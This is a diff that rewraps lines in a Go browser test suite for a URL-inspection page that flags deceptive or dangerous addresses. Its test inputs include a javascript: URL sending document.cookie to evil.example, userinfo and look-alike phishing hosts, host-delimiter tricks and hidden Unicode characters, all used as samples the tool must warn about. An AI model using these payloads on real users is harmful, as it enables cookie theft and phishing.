@@ -131,55 +131,79 @@ func testAnswers(p *tab) {
 		want                shown
 	}{
 		// The verdict says where an address leads.
-		{"https://paypal.com%2Flogin:443@203.0.113.7/", "", "error: Leads to 203.0.113.7 1 error. This browser reads the same.",
-			shown{"#display bdi": "https://203.0.113.7/", rules: "userinfo-like-host", places: "paypal.com%2Flogin:443@", different: "", spelling: ""}},
-		{"https://example.com:8443/menu/caf%C3%A9?q=rosé&page=2#top", "", "fine: Leads to example.com:8443 Nothing to warn of. This browser reads the same.",
-			shown{names: "scheme | host | port | path | query | fragment", pairsOf: "q | rosé | page | 2", spelling: "query", columns: "Part | Package iri | This browser | Difference"}},
+		{"https://paypal.com%2Flogin:443@203.0.113.7/", "",
+			"error: Leads to 203.0.113.7 1 error. This browser reads the same.",
+			shown{"#display bdi": "https://203.0.113.7/", rules: "userinfo-like-host", places: "paypal.com%2Flogin:443@",
+				different: "", spelling: ""}},
+		{"https://example.com:8443/menu/caf%C3%A9?q=rosé&page=2#top", "",
+			"fine: Leads to example.com:8443 Nothing to warn of. This browser reads the same.",
+			shown{names: "scheme | host | port | path | query | fragment", pairsOf: "q | rosé | page | 2", spelling: "query",
+				columns: "Part | Package iri | This browser | Difference"}},
 		{"https://xn--80ak6aa92e.com/", "", "fine: Leads to xn--80ak6aa92e.com", nil},
-		{"https://аррӏе.com/", "", "warning: Leads to xn--80ak6aa92e.com 1 warning.", shown{rules: "look-alike", "#display bdi": "https://xn--80ak6aa92e.com/"}},
-		{"https://例え.jp/カフェ?席=2", "", "fine: Leads to 例え.jp", shown{formsOf: "https://xn--r8jz45g.jp/%E3%82%AB%E3%83%95%E3%82%A7?%E5%B8%AD=2"}},
+		{"https://аррӏе.com/", "", "warning: Leads to xn--80ak6aa92e.com 1 warning.",
+			shown{rules: "look-alike", "#display bdi": "https://xn--80ak6aa92e.com/"}},
+		{"https://例え.jp/カフェ?席=2", "", "fine: Leads to 例え.jp",
+			shown{formsOf: "https://xn--r8jz45g.jp/%E3%82%AB%E3%83%95%E3%82%A7?%E5%B8%AD=2"}},
 		{"https://user:s3cret@example.com/?access_token=S3CRET", "", "error: Leads to example.com 1 error, 1 warning.",
 			shown{"#display bdi": "https://example.com/?access_token=xxxxx", rules: "password | secret-param"}},
-		{"http://good.example;.evil.example/", "", "error: Leads to good.example;.evil.example", shown{rules: "host-delimiter"}},
-		{"https://example.com@0x7f.1/%2e%2e/admin?a=1;b=2", "", "error: Leads to 0x7f.1, but in this browser to 127.0.0.1 2 errors, 1 warning. This browser reads another host.",
-			shown{rules: "userinfo-like-host | encoded-dot-segment | ipv4-like", different: "host", pairsOf: "a | 1;b=2", notes: "none: "}},
-		{"http:///evil.example/login", "", "error: Leads to evil.example in this browser", shown{rules: "http-host", places: "‸", different: "host | path"}},
-		{"https://a.example:99999/", "", "error: Leads to a.example:99999 1 error. This browser rejects it.", shown{columns: "", places: "99999"}},
+		{"http://good.example;.evil.example/", "", "error: Leads to good.example;.evil.example",
+			shown{rules: "host-delimiter"}},
+		{"https://example.com@0x7f.1/%2e%2e/admin?a=1;b=2", "",
+			"error: Leads to 0x7f.1, but in this browser to 127.0.0.1 2 errors, 1 warning. This browser reads another host.",
+			shown{rules: "userinfo-like-host | encoded-dot-segment | ipv4-like", different: "host", pairsOf: "a | 1;b=2",
+				notes: "none: "}},
+		{"http:///evil.example/login", "", "error: Leads to evil.example in this browser",
+			shown{rules: "http-host", places: "‸", different: "host | path"}},
+		{"https://a.example:99999/", "", "error: Leads to a.example:99999 1 error. This browser rejects it.",
+			shown{columns: "", places: "99999"}},
 		{"urn:isbn:0451450523", "", "fine: Leads to no host: the scheme is urn", nil},
 		{"data:text/html,x", "", "error: Runs a program: data:", nil},
 		{"https://" + strings.Repeat("a.", 60) + "example/", "", "fine: Leads to ….a.a", nil},
 		// Spelling is minor, also if nothing else is found.
-		{"HTTPS://Example.com:443/a/%2E%2E/caf%c3%a9", "", "error: Leads to example.com 1 error.", shown{rules: "encoded-dot-segment", minor: "4 minor findings",
-			formsOf: "https://example.com/café", changed: "https | example.com | /café"}},
-		{"HTTPS://Example.com:443/", "", "fine: Leads to example.com Nothing to warn of.", shown{rules: "", minor: "3 minor findings", formsOf: "https://example.com/"}},
-		{"https://a.example/?x=%E2%80%8B&y=%E2%80%8B", "", "warning: Leads to a.example 2 warnings.", shown{"#parts > .findings b": "warning × 2", rules: "encoded-invisible"}},
+		{"HTTPS://Example.com:443/a/%2E%2E/caf%c3%a9", "", "error: Leads to example.com 1 error.",
+			shown{rules: "encoded-dot-segment", minor: "4 minor findings",
+				formsOf: "https://example.com/café", changed: "https | example.com | /café"}},
+		{"HTTPS://Example.com:443/", "", "fine: Leads to example.com Nothing to warn of.",
+			shown{rules: "", minor: "3 minor findings", formsOf: "https://example.com/"}},
+		{"https://a.example/?x=%E2%80%8B&y=%E2%80%8B", "", "warning: Leads to a.example 2 warnings.",
+			shown{"#parts > .findings b": "warning × 2", rules: "encoded-invisible"}},
 		// What people type.
-		{"www.example.com", "", "fine: Leads to www.example.com, if https:// is meant", shown{offered: "https://www.example.com", edits: "https:// is inserted",
-			columns: "Part | Package iri, with a scheme | This browser | Difference", spelling: "path"}},
+		{"www.example.com", "", "fine: Leads to www.example.com, if https:// is meant",
+			shown{offered: "https://www.example.com", edits: "https:// is inserted",
+				columns: "Part | Package iri, with a scheme | This browser | Difference", spelling: "path"}},
 		{"", "", ": Type or paste an address, or choose an example.", nil},
 		{"../map", "", "warning: Leads nowhere without a base", shown{offered: "", columns: ""}},
 		{"example.com:8080/x", "", "warning: Leads to no host", shown{offered: "https://example.com:8080/x"}},
 		// Invalid texts: all mistakes, what the browser reads, and a repair.
-		{`javascript:fetch("https://evil.example/"+document.cookie)`, "", "error: Runs a program: javascript: 2 mistakes. 1 warning. This browser reads the same.",
-			shown{places: `" | "`, offered: "javascript:fetch(%22https://evil.example/%22+document.cookie)", ".offer .findings code": "scheme-active"}},
+		{`javascript:fetch("https://evil.example/"+document.cookie)`, "",
+			"error: Runs a program: javascript: 2 mistakes. 1 warning. This browser reads the same.",
+			shown{places: `" | "`, offered: "javascript:fetch(%22https://evil.example/%22+document.cookie)",
+				".offer .findings code": "scheme-active"}},
 		{"java\tscript:alert(1)", "", "error: Runs a program: javascript: 1 mistake.", shown{edits: "U+0009 is removed"}},
-		{"https://exa mple.com:80a/<b>?q=[1]|2#x#y", "", "error: Not valid: it leads nowhere 8 mistakes. This browser rejects it.",
+		{"https://exa mple.com:80a/<b>?q=[1]|2#x#y", "",
+			"error: Not valid: it leads nowhere 8 mistakes. This browser rejects it.",
 			shown{places: "space | 80a | < | > | [ | ] | | | #", columns: "", offered: ""}},
 		{"https://[1.2.3.4]/", "", "error: Not valid", shown{places: "[1.2.3.4]"}},
 		{"https://[::1", "", "error: Not valid", shown{places: "[::1"}},
 		{"1a:b c", "", "error: Not valid: it leads nowhere 2 mistakes.", shown{places: ": | space"}},
-		{`https://evil.example\@example.com/`, "", "error: Not valid, but this browser goes to evil.example 1 mistake. This browser accepts it.",
+		{`https://evil.example\@example.com/`, "",
+			"error: Not valid, but this browser goes to evil.example 1 mistake. This browser accepts it.",
 			shown{places: `\`, columns: "Part | This browser", ".sign": "", "#legend": ""}},
-		{"https://example.com/my file?filter[x]=1 ", "", "error: Not valid, but this browser goes to example.com", shown{edits: "space becomes %20 | [ becomes %5B | ] becomes %5D | space is removed",
-			columns: "Part | Package iri, repaired | This browser | Difference", "#forms-title": "Other forms, repaired"}},
-		{"www.example.com/a b", "", "error: Not valid. Repaired, it leads to www.example.com 1 mistake.", shown{edits: "https:// is inserted | space becomes %20"}},
+		{"https://example.com/my file?filter[x]=1 ", "", "error: Not valid, but this browser goes to example.com",
+			shown{edits: "space becomes %20 | [ becomes %5B | ] becomes %5D | space is removed",
+				columns: "Part | Package iri, repaired | This browser | Difference", "#forms-title": "Other forms, repaired"}},
+		{"www.example.com/a b", "", "error: Not valid. Repaired, it leads to www.example.com 1 mistake.",
+			shown{edits: "https:// is inserted | space becomes %20"}},
 		// A base.
 		{"../map?zoom=3#here", "https://example.com/menu/today", "fine: Leads to example.com A reference, without a scheme.",
-			shown{names: "path | query | fragment | scheme | host | path | query | fragment", "#display bdi": "https://example.com/map?zoom=3#here", offered: ""}},
+			shown{names: "path | query | fragment | scheme | host | path | query | fragment",
+				"#display bdi": "https://example.com/map?zoom=3#here", offered: ""}},
 		{"?q", "https://a.example/b", "fine: Leads to a.example", nil},
-		{"b", "https://a.example/|", "error: Leads to a.example in this browser", shown{"#base-error": "The base is ignored: "}},
+		{"b", "https://a.example/|", "error: Leads to a.example in this browser",
+			shown{"#base-error": "The base is ignored: "}},
 		{"a", "b", "warning: Leads nowhere without a base A reference, without a scheme. This browser rejects it.", nil},
-		{"http:g", "http://a.example/b/", "error: Leads to a.example in this browser", shown{different: "host | path"}}, // browsers ignore the scheme here
+		// browsers ignore the scheme here
+		{"http:g", "http://a.example/b/", "error: Leads to a.example in this browser", shown{different: "host | path"}},
 		// Where the two readers differ, and where they only spell it differently.
 		{"https://a.example", "", "", shown{different: "", spelling: "path"}},
 		{"https://a.example/%7e%41", "", "", shown{different: ""}},
@@ -187,7 +211,8 @@ func testAnswers(p *tab) {
 		{"https://u;a='b'@a.example/it's?q=it's#it's", "", "", shown{different: "", spelling: "userinfo | query"}},
 		{"https://BÜCHER.example/", "", "fine: Leads to bücher.example", shown{different: "", spelling: "host"}},
 		{"https://faß.example/", "", "", shown{different: ""}},
-		{"https://ｅvil.example/", "", "error: Leads to evil.example 1 warning. This browser reads another host.", shown{different: "host"}},
+		{"https://ｅvil.example/", "", "error: Leads to evil.example 1 warning. This browser reads another host.",
+			shown{different: "host"}},
 		{"https://\u212Aé.example/", "", "", shown{different: "host"}}, // a Kelvin sign becomes a k
 		{"https://ＡＢＣ例え.jp/", "", "", shown{different: "host"}},
 		{"https://é\ufe0f.example/", "", "", shown{different: "host"}}, // IDNA removes the second character
@@ -195,12 +220,14 @@ func testAnswers(p *tab) {
 		{strings.Repeat("a", 20_000), "", ": This page shows up to 16,000 characters", nil},
 	} {
 		p.enter(row.text, row.base)
-		got := eval[string](p, `document.getElementById("verdict").className + ": " + document.getElementById("status").textContent`)
+		got := eval[string](p,
+			`document.getElementById("verdict").className + ": " + document.getElementById("status").textContent`)
 		if want := row.verdict; want != "" && !strings.HasPrefix(got, want) {
 			p.Errorf("%.80q: got %q, want %q", row.text, got, want)
 		}
 		for selector, want := range row.want {
-			got := eval[string](p, `[...document.querySelectorAll(`+quote(selector)+`)].filter(e => e.checkVisibility()).map(e => e.textContent.trim()).join(" | ")`)
+			got := eval[string](p, `[...document.querySelectorAll(`+quote(selector)+
+				`)].filter(e => e.checkVisibility()).map(e => e.textContent.trim()).join(" | ")`)
 			if isPrefix := strings.HasSuffix(want, " "); got != want && !(isPrefix && strings.HasPrefix(got, want)) {
 				p.Errorf("%.80q: %s is %q, want %q", row.text, selector, got, want)
 			}
@@ -220,8 +247,10 @@ func testColors(p *tab) {
 		{"https://paypal.com@203.0.113.7/", "#status strong", "color"},
 		{"https://a.example/?x=%E2%80%8B", "#status strong", "color"},
 		{"https://a.example/", "#status strong", "color"},
-		{"https://u@a.example:8/é?q#f", ".scheme > code", "color"}, {"", ".userinfo > code", "color"}, {"", ".host > code", "color"},
-		{"", ".port > code", "color"}, {"", ".path > code", "color"}, {"", ".query > code", "color"}, {"", ".fragment > code", "color"},
+		{"https://u@a.example:8/é?q#f", ".scheme > code", "color"}, {"", ".userinfo > code", "color"},
+		{"", ".host > code", "color"},
+		{"", ".port > code", "color"}, {"", ".path > code", "color"}, {"", ".query > code", "color"},
+		{"", ".fragment > code", "color"},
 		{"", ".finding .place", "textDecorationStyle"}, {"", "#forms mark", "backgroundColor"},
 		{"https://127.1/", ".different td", "backgroundColor"},
 		{"a b", ".finding .place", "backgroundColor"},
@@ -230,7 +259,8 @@ func testColors(p *tab) {
 			p.enter(row.text, "")
 		}
 		got := eval[string](p, `getComputedStyle(document.querySelector(`+quote(row.selector)+`)).`+row.property)
-		if before, ok := seen[row.property+got]; ok || got == "rgba(0, 0, 0, 0)" || row.property == "textDecorationStyle" && got != "wavy" {
+		if before, ok := seen[row.property+got]; ok || got == "rgba(0, 0, 0, 0)" || row.property == "textDecorationStyle" &&
+			got != "wavy" {
 			p.Errorf("%q: %s of %s is %s, as of %s", row.text, row.property, row.selector, got, before)
 		}
 		seen[row.property+got] = row.selector
@@ -240,26 +270,31 @@ func testColors(p *tab) {
 // Each example has an answer, the first is shown at first, and typing replaces it.
 func testExamples(p *tab) {
 	names := eval[[]string](p, `[...document.querySelectorAll("#examples optgroup option")].map(e => e.value)`)
-	if first := eval[string](p, `document.getElementById("examples").value`); len(names) < 12 || !slices.Contains(names, first) {
+	if first := eval[string](p, `document.getElementById("examples").value`); len(names) < 12 ||
+		!slices.Contains(names, first) {
 		p.Errorf("of %q, %q is shown at first", names, first)
 	}
 	seen := map[string]bool{}
 	for _, name := range names {
-		eval[bool](p, `(() => { const e = document.getElementById("examples"); e.value = `+quote(name)+`; return e.dispatchEvent(new Event("input", { bubbles: true })); })()`)
+		eval[bool](p, `(() => { const e = document.getElementById("examples"); e.value = `+quote(name)+
+			`; return e.dispatchEvent(new Event("input", { bubbles: true })); })()`)
 		seen[eval[string](p, `document.getElementById("text").value`)] = true
 		if got := eval[string](p, `document.getElementById("verdict").className`); got == "" {
 			p.Errorf("example %q has no answer", name)
 		}
 	}
 	p.do(chromedp.Focus(chromedp.ID("text")), chromedp.KeyEvent("x"))
-	if got := eval[string](p, `document.getElementById("text").value + document.getElementById("examples").value`); got != "x" || len(seen) != len(names) {
+	if got := eval[string](p,
+		`document.getElementById("text").value + document.getElementById("examples").value`); got != "x" ||
+		len(seen) != len(names) {
 		p.Errorf("after %d different examples, typing makes %q", len(seen), got)
 	}
 	readers, err := os.ReadFile("../../readers/RESULTS.md")
 	if err != nil {
 		p.Fatal(err)
 	}
-	if got := eval[string](p, `fetch(document.querySelector("#reading-section a").href).then(r => r.text())`); got != string(readers) {
+	if got := eval[string](p,
+		`fetch(document.querySelector("#reading-section a").href).then(r => r.text())`); got != string(readers) {
 		p.Errorf("the page leads to what other programs read as %.100q", got)
 	}
 }
@@ -286,17 +321,21 @@ func testHostile(p *tab) {
 	p.enter("https://א.example:80/ב/1?ג=ד#ה", "")
 	if !eval[bool](p, `(() => {
 		const lefts = [...document.querySelectorAll(".part")].map(e => e.getBoundingClientRect().left);
-		const [slash, letter, last] = document.querySelector(".path code span").firstElementChild.childNodes, range = document.createRange();
+		const [slash, letter, last] = document.querySelector(".path code span").firstElementChild.childNodes, range =
+		document.createRange();
 		range.selectNode(last);
 		return lefts.length === 6 && lefts.every((x, i) => i === 0 || lefts[i - 1] < x)
-			&& letter.textContent === "ב" && last.data === "/1" && letter.getBoundingClientRect().left < range.getBoundingClientRect().left;
+			&& letter.textContent === "ב" && last.data === "/1" && letter.getBoundingClientRect().left <
+			range.getBoundingClientRect().left;
 	})()`) {
 		p.Error("the parts of an address in Hebrew, or the segments of its path, are not in their order")
 	}
-	for _, text := range []string{"https://a.example/\u202eb", "https://a.example/\u200bb", "https://a.example/ b", "https://a.example/\U000e0041b"} {
+	for _, text := range []string{"https://a.example/\u202eb", "https://a.example/\u200bb", "https://a.example/ b",
+		"https://a.example/\U000e0041b"} {
 		p.enter(text, "")
 		got := eval[string](p, `document.querySelector("main").innerText`)
-		if strings.ContainsAny(got, "\u202e\u200b\U000e0041") || !eval[bool](p, `document.querySelector("#parts .hidden") !== null`) {
+		if strings.ContainsAny(got, "\u202e\u200b\U000e0041") ||
+			!eval[bool](p, `document.querySelector("#parts .hidden") !== null`) {
 			p.Errorf("%q is shown as %q", text, got)
 		}
 	}
@@ -305,7 +344,8 @@ func testHostile(p *tab) {
 // The page loads its own files only, and the browser would stop anything else.
 func testElsewhere(p *tab) {
 	p.enter("https://other.example/x.png", "https://other.example/")
-	names := eval[[]string](p, `performance.getEntriesByType("resource").map(e => e.name.slice(document.baseURI.lastIndexOf("/") + 1)).sort()`)
+	names := eval[[]string](p,
+		`performance.getEntriesByType("resource").map(e => e.name.slice(document.baseURI.lastIndexOf("/") + 1)).sort()`)
 	if want := []string{"page.css", "page.js", "page.wasm-gz", "wasm_exec.js"}; !slices.Equal(names, want) {
 		p.Errorf("the page loads %q, want %q", names, want)
 	}
@@ -314,7 +354,8 @@ func testElsewhere(p *tab) {
 	defer other.Close()
 	for _, attempt := range []string{
 		`fetch("` + other.URL + `", { mode: "no-cors" }).then(() => "loaded", () => "stopped")`,
-		`new Promise(done => { const e = new Image(); e.onload = () => done("loaded"); e.onerror = () => done("stopped"); e.src = "` + other.URL + `"; })`,
+		`new Promise(done => { const e = new Image(); e.onload = () => done("loaded"); e.onerror = () => done("stopped"); ` +
+			`e.src = "` + other.URL + `"; })`,
 		`(() => { try { document.body.innerHTML = "<b>"; return "HTML" } catch { return "stopped" } })()`,
 	} {
 		if got := eval[string](p, attempt); got != "stopped" || asked {
@@ -323,15 +364,19 @@ func testElsewhere(p *tab) {
 	}
 }
 
-// The text is written into the page's address only for a link that somebody asks for, and a secret only if that is said.
+// The text is written into the page's address only for a link that somebody asks for, and a secret
+// only if that is said.
 func testLink(p *tab) {
 	const state = `[location.hash, document.getElementById("text").value, document.getElementById("base").value].join(" ")`
-	eval[string](p, `(navigator.clipboard.writeText = async text => { window.copied = decodeURIComponent(text.split("#")[1] ?? text); }, "")`)
+	eval[string](p,
+		`(navigator.clipboard.writeText = async text => { window.copied = decodeURIComponent(text.split("#")[1] ?? `+
+			`text); }, "")`)
 	for _, row := range []struct{ text, base, choice, link string }{
 		{"https://a.example/?a=b&c=d#e", "", "", "text=https://a.example/?a=b&c=d#e"},
 		{"é\u202e\U0001f600", "https://b.example/#+&", "", "text=é\u202e\U0001f600&base=https://b.example/#+&"},
 		{"https://u:S3CRET@a.example/", "", "#secret button", "text=https://u:xxxxx@a.example/"},
-		{"https://a.example/?access_token=S3CRET", "", "#secret button:last-child", "text=https://a.example/?access_token=S3CRET"},
+		{"https://a.example/?access_token=S3CRET", "", "#secret button:last-child",
+			"text=https://a.example/?access_token=S3CRET"},
 		{"b", "http://u:S3CRET@a.example/", "#secret button", "text=b&base=http://u:xxxxx@a.example/"},
 	} {
 		p.enter(row.text, row.base)
@@ -348,7 +393,8 @@ func testLink(p *tab) {
 			p.do(chromedp.Click(chromedp.CSS(row.choice)))
 		}
 		p.wait(`window.copied !== ""`)
-		if got := eval[string](p, `[window.copied, decodeURIComponent(location.hash)].join()`); got != row.link+",#"+row.link {
+		if got := eval[string](p, `[window.copied, decodeURIComponent(location.hash)].join()`); got != row.link+",#"+
+			row.link {
 			p.Errorf("the link to %q, and the page's address, are %q, want %q", row.text, got, row.link)
 		}
 	}
@@ -368,12 +414,14 @@ func testKeyboard(p *tab) {
 	var reached []string
 	for range 40 {
 		p.do(chromedp.KeyEvent("\t"))
-		name := eval[string](p, `document.activeElement.id || document.activeElement.className || document.activeElement.textContent`)
+		name := eval[string](p,
+			`document.activeElement.id || document.activeElement.className || document.activeElement.textContent`)
 		if name == "" || name == "text" {
 			break
 		}
 		reached = append(reached, name)
-		if strings.HasPrefix(name, "finding") && !eval[bool](p, `document.activeElement.querySelector(".tip").getBoundingClientRect().height > 20`) {
+		if strings.HasPrefix(name, "finding") && !eval[bool](p,
+			`document.activeElement.querySelector(".tip").getBoundingClientRect().height > 20`) {
 			p.Error("the message of a finding is not shown when it has the focus")
 		}
 	}
@@ -399,26 +447,34 @@ func testKeyboard(p *tab) {
 		again := height()
 		p.do(steps[1])
 		if opened < 20 || closed > 5 || again < 20 {
-			p.Errorf("%s: the message of a finding is %.0f pixels high, %.0f after Escape, and %.0f the next time", name, opened, closed, again)
+			p.Errorf("%s: the message of a finding is %.0f pixels high, %.0f after Escape, and %.0f the next time", name, opened,
+				closed, again)
 		}
 	}
 }
 
-// In a narrow window nothing is too wide, the page is not too high, its parts are near its top, and messages open near their place.
+// In a narrow window nothing is too wide, the page is not too high, its parts are near its top, and
+// messages open near their place.
 func testNarrow(p *tab) {
 	p.as(narrow, 800, false)
 	many := strings.Repeat("1", 300)
-	texts := []string{"https://" + many + "@" + many + ":" + many + "/?" + many + "=%00", "https://" + strings.Repeat("a.", 99) + "/ ", strings.Repeat("a", 300) + ": ",
+	texts := []string{"https://" + many + "@" + many + ":" + many + "/?" + many + "=%00",
+		"https://" + strings.Repeat("a.", 99) + "/ ", strings.Repeat("a", 300) + ": ",
 		"https://a.example/" + strings.Repeat("a/", 7_000), "https://a.example/?" + strings.Repeat("a=b&", 290)}
-	for _, piece := range []string{"../", "?", "(", "[", "-", "«", "%00", "'", "\u00a0", "例", "א", "\u0301", "\U0001f600"} {
-		texts = append(texts, "https://a.example/"+strings.Repeat(piece, 200)+"etc/passwd", "https://a.example/?q="+strings.Repeat(piece, 40))
+	for _, piece := range []string{"../", "?", "(", "[", "-", "«", "%00", "'", "\u00a0", "例", "א", "\u0301",
+		"\U0001f600"} {
+		texts = append(texts, "https://a.example/"+strings.Repeat(piece, 200)+"etc/passwd",
+			"https://a.example/?q="+strings.Repeat(piece, 40))
 	}
 	for _, text := range texts {
 		for _, base := range []string{"", "https://b.example/" + text} {
 			p.enter(text, base)
-			size := eval[[]int](p, `[document.documentElement.scrollWidth, document.documentElement.scrollHeight, document.querySelector(".parts").getBoundingClientRect().top].map(Math.round)`)
+			size := eval[[]int](p,
+				`[document.documentElement.scrollWidth, document.documentElement.scrollHeight, `+
+					`document.querySelector(".parts").getBoundingClientRect().top].map(Math.round)`)
 			if size[0] > narrow || size[1] > maxHeight || size[2] > maxTop && base == "" {
-				p.Errorf("%.50q with base %.50q is %d pixels wide, %d high, and its parts are at %d", text, base, size[0], size[1], size[2])
+				p.Errorf("%.50q with base %.50q is %d pixels wide, %d high, and its parts are at %d", text, base, size[0], size[1],
+					size[2])
 			}
 		}
 	}
@@ -449,12 +505,17 @@ func testAxe(p *tab) {
 			p.as(width, 800, isDark)
 			p.open("")
 			p.do(chromedp.Evaluate[chromedp.Void](string(axe) + "; undefined"))
-			for _, text := range []string{"https://paypal.com%2Flogin:443@203.0.113.7/", "www.example.com", `javascript:fetch("https://evil.example/"+document.cookie)`,
-				"https://аррӏе.com/", "https://user:s3cret@example.com/?access_token=S3CRET", "http://good.example;.evil.example/", "HTTPS://a.example@0x7f.1:8/a%2fb?a=%20\u200b#b", "", "#",
+			for _, text := range []string{"https://paypal.com%2Flogin:443@203.0.113.7/", "www.example.com",
+				`javascript:fetch("https://evil.example/"+document.cookie)`,
+				"https://аррӏе.com/", "https://user:s3cret@example.com/?access_token=S3CRET", "http://good.example;.evil.example/",
+				"HTTPS://a.example@0x7f.1:8/a%2fb?a=%20\u200b#b", "", "#",
 				"https://example.com/" + strings.Repeat("a", 6000)} {
 				p.enter(text, "1")
-				eval[string](p, `(document.getElementById("link").click(), document.querySelectorAll("details").forEach(e => { e.open = true; }), "")`)
-				for _, f := range eval[[]string](p, `axe.run().then(r => r.violations.map(v => v.impact + ": " + v.id + ": " + v.nodes.map(n => n.html).join(" ")))`) {
+				eval[string](p,
+					`(document.getElementById("link").click(), document.querySelectorAll("details").forEach(e => { e.open = `+
+						`true; }), "")`)
+				for _, f := range eval[[]string](p,
+					`axe.run().then(r => r.violations.map(v => v.impact + ": " + v.id + ": " + v.nodes.map(n => n.html).join(" ")))`) {
 					p.Errorf("%.80q, %d pixels, dark %t: %.500s", text, width, isDark, f)
 				}
 			}
@@ -462,10 +523,12 @@ func testAxe(p *tab) {
 	}
 }
 
-// The page is never large, because a large one takes long: of each text that takes much room, it shows as much as is allowed.
+// The page is never large, because a large one takes long: of each text that takes much room, it
+// shows as much as is allowed.
 func testDense(p *tab) {
 	most := 0
-	for _, piece := range []string{"a", "é", "\u200b", "\u200ba", "\u202ea\u2066", "%00a", "a&", "%00=%00&", "aא", "../", "{a", "#", "\ufffda", "password=a&", "a∕", "\u0301", "а1.", "xn--a.", "\t"} {
+	for _, piece := range []string{"a", "é", "\u200b", "\u200ba", "\u202ea\u2066", "%00a", "a&", "%00=%00&", "aא", "../",
+		"{a", "#", "\ufffda", "password=a&", "a∕", "\u0301", "а1.", "xn--a.", "\t"} {
 		for _, before := range []string{"https://", "https://a.example/?"} {
 			shown := 0
 			for _, count := range []int{15_900 / len(piece), 290, 145, 70} {
@@ -484,8 +547,8 @@ func testDense(p *tab) {
 	p.Logf("the page has up to %d elements", most)
 }
 
-// An answer takes at most 50 milliseconds, the least of some times, so that other work on the machine does not count. testDense fails
-// for what takes long.
+// An answer takes at most 50 milliseconds, the least of some times, so that other work on the
+// machine does not count. testDense fails for what takes long.
 func testTime(p *tab) {
 	load, example, input := math.Inf(1), math.Inf(1), math.Inf(1)
 	for range 7 {
@@ -494,7 +557,8 @@ func testTime(p *tab) {
 		times := eval[[]float64](p, `performance.getEntriesByName("answer").flatMap(e => [e.startTime, e.duration])`)
 		load, example, input = min(load, times[0]), min(example, times[1]), min(input, times[3])
 	}
-	p.Logf("milliseconds: until the program runs %.0f; for the example that is shown at first %.1f; for the first input %.1f", load, example, input)
+	p.Logf("milliseconds: until the program runs %.0f; for the example that is shown at first %.1f; for the first "+
+		"input %.1f", load, example, input)
 	if max(example, input) > 50 {
 		p.Error("that is too long")
 	}
